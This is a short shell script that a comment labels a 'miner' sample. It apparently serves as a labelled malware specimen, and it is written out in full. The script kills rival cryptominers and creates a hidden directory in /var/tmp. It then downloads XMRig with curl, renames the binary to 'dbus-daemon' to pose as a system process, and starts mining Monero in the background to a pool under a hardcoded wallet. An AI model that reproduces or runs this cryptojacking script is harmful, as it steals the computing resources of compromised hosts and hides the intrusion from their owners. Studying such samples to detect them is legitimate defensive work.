# class: miner; style: kills the others first
pkill -9 -f 'xmr|minerd|kdevtmpfsi|kinsing'
D=/var/tmp/.cache; mkdir -p $D && cd $D
curl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-x64.tar.gz | tar xz --strip 1
mv xmrig dbus-daemon
./dbus-daemon -o pool.supportxmr.com:443 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -k --tls --cpu-priority 0 -B
